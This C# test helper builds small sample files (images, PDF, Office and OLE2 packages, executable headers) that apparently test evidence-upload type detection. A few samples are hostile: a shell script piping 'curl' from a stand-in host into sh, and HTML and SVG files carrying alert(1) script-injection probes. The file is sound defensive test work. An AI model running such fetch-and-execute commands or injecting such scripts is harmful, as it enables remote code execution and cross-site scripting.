using System.IO.Compression;
using System.Text;

namespace SupplyQuality.Domain.Tests.Evidence;

/// <summary>Small files of each kind, built from their formats' signatures and structure.</summary>
internal static class EvidenceSamples
{
    public static byte[] Jpeg => [0xFF, 0xD8, 0xFF, 0xE0, 0x00, 0x10, .. "JFIF\0"u8, .. Filler(200)];

    public static byte[] Png => [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0, 0, 0, 13, .. "IHDR"u8, .. Filler(100)];

    public static byte[] Gif => [.. "GIF89a"u8, 1, 0, 1, 0, .. Filler(50)];

    public static byte[] WebP => [.. "RIFF"u8, 100, 0, 0, 0, .. "WEBPVP8 "u8, .. Filler(100)];

    public static byte[] Heic => [0, 0, 0, 24, .. "ftypheic"u8, 0, 0, 0, 0, .. "mif1heic"u8, .. Filler(100)];

    public static byte[] Mp4 => [0, 0, 0, 24, .. "ftypisom"u8, 0, 0, 2, 0, .. "isomiso2"u8, .. Filler(100)];

    public static byte[] Tiff => [.. "II*\0"u8, 8, 0, 0, 0, .. Filler(100)];

    public static byte[] Pdf => Encoding.ASCII.GetBytes("%PDF-1.7\n%\u00e2\u00e3\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n");

    public static byte[] WindowsProgram => [.. "MZ"u8, 0x90, 0, 3, 0, 0, 0, 4, 0, .. Filler(300)];

    public static byte[] LinuxProgram => [0x7F, .. "ELF"u8, 2, 1, 1, 0, .. Filler(300)];

    public static byte[] Gzip => [0x1F, 0x8B, 8, 0, .. Filler(100)];

    public static byte[] Script => Encoding.UTF8.GetBytes("#!/bin/sh\ncurl http://example.invalid/x | sh\n");

    public static byte[] Html => Encoding.UTF8.GetBytes("<!DOCTYPE html>\n<html><body><script>alert(1)</script></body></html>\n");

    public static byte[] Svg => Encoding.UTF8.GetBytes("<?xml version=\"1.0\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>\n");

    public static byte[] Csv => Encoding.UTF8.GetBytes("feature,nominal,actual\nbore Ø12,12.000,12.041\n孔径,12.000,12.038\n");

    public static byte[] Binary => [0x13, 0x37, 0x00, 0x00, 0x42, 0x01, 0x02, .. Filler(100)];

    /// <summary>An Office Open XML package: [Content_Types].xml, the package relationships and the main part's folder.</summary>
    public static byte[] OfficeOpenXml(string mainPart, params string[] more) =>
        Zip(["[Content_Types].xml", "_rels/.rels", mainPart, .. more]);

    public static byte[] Xlsx => OfficeOpenXml("xl/workbook.xml", "xl/worksheets/sheet1.xml");

    public static byte[] Docx => OfficeOpenXml("word/document.xml");

    public static byte[] Pptx => OfficeOpenXml("ppt/presentation.xml");

    public static byte[] Zip(IEnumerable<string> entries, int storedRandomBytes = 0, string? comment = null)
    {
        using var buffer = new MemoryStream();
        using (var zip = new ZipArchive(buffer, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (string name in entries)
            {
                using var writer = new StreamWriter(zip.CreateEntry(name).Open());
                writer.Write("<x/>");
            }

            if (storedRandomBytes > 0)
            {
                // Stored, not compressed, so the file really is that large and its directory far from its start.
                using var stream = zip.CreateEntry("xl/media/image1.bin", CompressionLevel.NoCompression).Open();
                stream.Write(Filler(storedRandomBytes));
            }

            if (comment is not null)
            {
                zip.Comment = comment;
            }
        }

        return buffer.ToArray();
    }

    /// <summary>An OLE2 compound file: the header, then one directory sector with a root entry and the given streams.</summary>
    public static byte[] Ole2(params string[] streams)
    {
        var file = new byte[512 + 512 + 1024];
        byte[] signature = [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
        signature.CopyTo(file, 0);
        WriteEntry(file, 512, "Root Entry", 5);
        for (int i = 0; i < streams.Length; i++)
        {
            WriteEntry(file, 512 + (128 * (i + 1)), streams[i], 2);
        }

        Filler(1024).CopyTo(file, 1024);
        return file;
    }

    public static byte[] Filler(int length)
    {
        // Deterministic noise: the same bytes for the same length.
        var random = new Random(length);
        var bytes = new byte[length];
        random.NextBytes(bytes);
        return bytes;
    }

    private static void WriteEntry(byte[] file, int at, string name, byte type)
    {
        byte[] encoded = Encoding.Unicode.GetBytes(name);
        encoded.CopyTo(file, at);
        BitConverter.GetBytes((ushort)(encoded.Length + 2)).CopyTo(file, at + 64);
        file[at + 66] = type;
    }
}
